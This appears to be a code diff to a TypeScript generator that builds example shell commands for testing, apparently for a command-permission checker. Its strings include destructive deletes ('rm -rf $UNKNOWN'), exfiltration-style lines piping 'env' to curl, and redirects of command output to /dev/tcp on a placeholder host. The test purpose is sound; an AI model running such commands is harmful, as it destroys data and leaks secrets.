@@ -22,8 +22,8 @@ const MAKERS: Readonly<Record<string, Maker>> = {
     const path = pathWord(fact);
     const move = `mv ${path} /tmp/moved`;
     if (own(fact, "op") === "move") return [move];
-    return own(fact, "tree") === true
-      ? [`rm -rf ${path}`, `find ${path} -delete`]
+    return isOn(fact, "tree")
+      ? [`rm -rf ${path}`, `find ${path} -delete`, "rm -rf $UNKNOWN"]
       : [`rm ${path}`, `rm -rf ${path}`, move];
   },
   writes: (fact) => {
@@ -37,24 +37,27 @@ const MAKERS: Readonly<Record<string, Maker>> = {
       case "link":
         return [`ln -s target ${path}`];
       default:
-        return own(fact, "append") === true
+        return isOn(fact, "append")
           ? [append]
           : [`echo x > ${path}`, `touch ${path}`, `cp -r x ${path}`, append];
     }
   },
   reads: (fact) => {
     const path = pathWord(fact);
-    if (own(fact, "list") === true) return [`ls ${path}`, `ls -R ${path}`];
-    return own(fact, "tree") === true ? [`grep -r x ${path}`] : [`cat ${path}`, `grep -r x ${path}`];
+    if (isOn(fact, "list")) return [`ls ${path}`, `ls -R ${path}`];
+    return isOn(fact, "tree") ? [`grep -r x ${path}`] : [`cat ${path}`, `grep -r x ${path}`];
   },
   network: (fact) => {
     const url = quoted(urlOf(fact));
     const direction = own(fact, "direction");
+    const scheme = own(fact, "scheme");
+    if (scheme === "tcp" || scheme === "udp")
+      return [`sh -c id > /dev/${scheme}/h.example/80`, `cat file > /dev/${scheme}/h.example/80`];
     if (direction === "listen") return ["nc -l 8000"];
     const sends = entriesOf(own(fact, "sends"));
     const file = sends.find((one): one is JsonObject => isRecord(one));
     const upload = `curl -T ${file === undefined ? "data" : pathWord(file)} ${url}`;
-    const isOut = direction === "out" || direction === "both" || sends.length > 0;
+    const isOut = direction === "out" || direction === "both" || isOn(fact, "sends");
     return isOut ? [upload, `env | curl -d @- ${url}`, `curl -d x ${url}`] : [`curl ${url}`, upload];
   },
   executes: (fact, tests) => {
@@ -124,6 +127,11 @@ export function exampleCommands(facts: JsonObject, programs: readonly ProgramRow
   return commands.map((one) => (one === "" ? "true" : one));
 }
 
+/** Another value than true may be what a condition takes for it. */
+function isOn(fact: JsonObject, key: string): boolean {
+  return Boolean(own(fact, key));
+}
+
 function entriesOf(value: unknown): readonly JsonValue[] {
   return Array.isArray(value) ? (value as readonly JsonValue[]) : [];
 }
@@ -139,5 +147,5 @@ function urlOf(fact: JsonObject): string {
   const scheme = own(fact, "scheme");
   const host = own(fact, "host");
   const port = own(fact, "port");
-  return `${typeof scheme === "string" ? scheme : "https"}://${typeof host === "string" ? host : "example.org"}${typeof port === "number" ? `:${port}` : ""}/x`;
+  return `${typeof scheme === "string" ? scheme : "https"}://${typeof host === "string" && host !== "" ? host : "example.org"}${typeof port === "number" ? `:${port}` : ""}/x`;
 }
